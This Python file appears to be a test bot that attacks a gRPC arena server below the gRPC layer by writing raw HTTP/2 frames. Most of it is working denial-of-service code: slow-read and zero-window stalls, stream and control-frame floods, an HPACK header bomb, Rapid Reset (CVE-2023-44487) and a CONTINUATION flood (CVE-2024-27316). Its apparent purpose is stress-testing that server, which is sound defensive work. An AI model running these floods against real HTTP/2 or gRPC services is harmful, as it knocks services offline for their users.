"""A bot that attacks below gRPC: `http2_attacker.py ATTACK MARK`. See `ATTACKS` for what it can do.

It speaks HTTP/2 frame by frame (RFC 9113), as far as an attack needs it. Before its hello it does what a good
client does, if the attack does not say otherwise.
"""

import os
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

from referee.v1.play_pb2 import PlayRequest

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW = 4
"""The setting: how many bytes of a stream may come before more are asked for."""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = "/referee.v1.BotService/Play"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def header(name: str, value: str) -> bytes:
    """Return one header as a literal of its own (RFC 7541, 6.2.2)."""
    return b"\0" + b"".join(bytes([len(word)]) + word.encode() for word in (name, value))


REQUEST = b"".join(
    header(name, value)
    for name, value in (
        (":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", "localhost"),
        ("content-type", "application/grpc"), ("te", "trailers"),
    )
)  # fmt: skip


def message(request: PlayRequest) -> bytes:
    """Return a message as gRPC lays it out."""
    payload = request.SerializeToString()
    return b"\0" + struct.pack(">I", len(payload)) + payload


def hello(token: str = "") -> PlayRequest:
    """Return a hello with our token, or another one."""
    request = PlayRequest()
    request.hello.protocols.append(1)
    request.hello.token = token or os.environ["ARENA_TOKEN"]
    return request


def dial(window: int = 65_535) -> socket.socket:
    """Return a connection on which HTTP/2 has begun. window: how many bytes of a stream may come unasked."""
    dialled = socket.socket(socket.AF_UNIX)
    dialled.connect(os.environ["ARENA_ADDRESS"].removeprefix("unix:"))
    dialled.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, window)))
    return dialled


def say_hello(window: int = 65_535) -> socket.socket:
    """Return a connection on which a valid hello was said on stream 1."""
    dialled = dial(window)
    dialled.sendall(frame(HEADERS, END_HEADERS, 1, REQUEST) + frame(DATA, 0, 1, message(hello())))
    return dialled


def for_ever() -> None:
    """Do nothing more."""
    time.sleep(3600)


# Who does not read


def closed_window() -> None:
    """Says hello and lets nothing come."""
    dialled = say_hello(window=0)
    for_ever()
    dialled.close()


def slow_reader() -> None:
    """Says hello and reads a byte a second."""
    dialled = say_hello()
    while dialled.recv(1):
        time.sleep(1)


def narrow_window() -> None:
    """Says hello and opens its window by a byte now and then."""
    dialled = say_hello(window=0)
    while True:
        dialled.sendall(frame(WINDOW, 0, 1, struct.pack(">I", 1)))
        time.sleep(0.2)


def blind() -> None:
    """Says hello, lets nothing come, and answers questions that it never sees."""
    dialled = say_hello(window=0)
    for number in range(1, 1 << 30):
        request = PlayRequest()
        request.answers.answers.add(question=number // 100 + 1, index=0)
        dialled.sendall(frame(DATA, 0, 1, message(request)))
        time.sleep(0.005)


# Who floods


def flood(pieces: Callable[[int], bytes], *, greeted: bool = False) -> None:
    """Send pieces without end, each the next number is given to; dial again where the connection is ended.

    greeted: after a valid hello, where that is still taken.
    """
    number = 1
    while True:
        try:
            dialled = say_hello() if greeted else dial()
            dialled.settimeout(0.2)
            while True:
                try:
                    dialled.sendall(pieces(number))
                    number += 2
                finally:
                    _drain(dialled)
        except TimeoutError:
            continue
        except OSError:
            number = 1
            time.sleep(0.001)


def _drain(dialled: socket.socket) -> None:
    dialled.setblocking(False)
    try:
        while dialled.recv(1 << 16):
            pass
    except BlockingIOError:
        pass
    finally:
        dialled.settimeout(0.2)


def _streams(number: int) -> Iterator[int]:
    """Yield the numbers of 100 new streams."""
    return iter(range(100 * number - 99, 100 * number + 101, 2))


def wrong_tokens() -> None:
    """Says hello on a new stream each, with tokens that it made up."""
    request = frame(DATA, 0, 1, message(hello("made up")))[9:]
    flood(
        lambda number: b"".join(
            frame(HEADERS, END_HEADERS, stream, REQUEST) + frame(DATA, 1, stream, request)
            for stream in _streams(number)
        )
    )


def silent_streams() -> None:
    """Opens streams and says nothing on them."""
    flood(lambda number: b"".join(frame(HEADERS, END_HEADERS, stream, REQUEST) for stream in _streams(number)))


def header_bomb() -> None:
    """Opens streams whose headers are one long entry of the table, named again and again by one byte."""
    long = b"\x40\x01x\x7f" + _integer(3900 - 127) + b"y" * 3900
    flood(lambda number: frame(HEADERS, END_HEADERS, 2 * number - 1, REQUEST + long + b"\xbe" * 8000))


def large_hellos() -> None:
    """Says hello with a megabyte of text."""
    request = hello("x" * ((1 << 20) - 100))
    pieces = message(request)
    frames = [pieces[start : start + 16_384] for start in range(0, len(pieces), 16_384)]
    flood(
        lambda number: (
            frame(HEADERS, END_HEADERS, number, REQUEST)
            + frame(WINDOW, 0, 0, struct.pack(">I", 1 << 20))
            + b"".join(frame(DATA, 0, number, each) for each in frames)
        )
    )


def rapid_reset() -> None:
    """Opens streams and takes them back at once (CVE-2023-44487)."""
    flood(
        lambda number: b"".join(
            frame(HEADERS, END_HEADERS, stream, REQUEST) + frame(RESET, 0, stream, struct.pack(">I", 8))
            for stream in _streams(number)
        )
    )


def pings() -> None:
    """Asks whether we are there, without end."""
    flood(lambda _: frame(PING, 0, 0, b"12345678") * 1000)


def settings() -> None:
    """Changes its settings without end."""
    flood(lambda _: frame(SETTINGS, 0, 0) * 1000, greeted=True)


def windows() -> None:
    """Opens its window without end, byte by byte."""
    flood(lambda _: frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 1000, greeted=True)


def priorities() -> None:
    """Says which stream comes first, without end."""
    flood(lambda _: frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 1000, greeted=True)


def unknown_frames() -> None:
    """Sends frames of a kind that there is not."""
    flood(lambda _: frame(0xBB, 0, 1) * 1000, greeted=True)


def farewells() -> None:
    """Says that it goes, without end, and stays."""
    flood(lambda _: frame(GOAWAY, 0, 0, bytes(8)) * 1000)


def empty_data() -> None:
    """Sends frames of a message with nothing in them."""
    flood(lambda _: frame(DATA, 0, 1) * 1000, greeted=True)


def continuations() -> None:
    """Sends headers that never end (CVE-2024-27316)."""
    flood(lambda number: frame(HEADERS, 0, 1, REQUEST) if number == 1 else frame(CONTINUATION, 0, 1) * 1000)


def connections() -> None:
    """Dials without end, and keeps what it can."""
    kept = []
    while True:
        try:
            kept.append(dial())
        except OSError:
            kept.clear()
            time.sleep(0.001)


def messages() -> None:
    """Says hello and then sends empty messages without end."""
    flood(lambda _: frame(DATA, 0, 1, bytes(5)) * 1000, greeted=True)


def _integer(value: int) -> bytes:
    """Return what is left of a number in a header (RFC 7541, 5.1)."""
    out = bytearray()
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out) + bytes([value])


READERS = (closed_window, slow_reader, narrow_window, blind)
"""Attacks that say hello and let little come, or nothing."""

FLOODS = (
    wrong_tokens, silent_streams, header_bomb, large_hellos, rapid_reset, pings, settings, windows, priorities,
    unknown_frames, farewells, empty_data, continuations, connections, messages,
)  # fmt: skip
"""Attacks that send without end."""

ATTACKS: dict[str, Callable[[], None]] = {attack.__name__.replace("_", "-"): attack for attack in (*READERS, *FLOODS)}


if __name__ == "__main__":
    if len(sys.argv) < 2 or sys.argv[1] not in ATTACKS:
        sys.exit(f"usage: http2_attacker.py {'|'.join(ATTACKS)} MARK")
    try:
        ATTACKS[sys.argv[1]]()
    except (BrokenPipeError, ConnectionError):
        sys.exit(1)
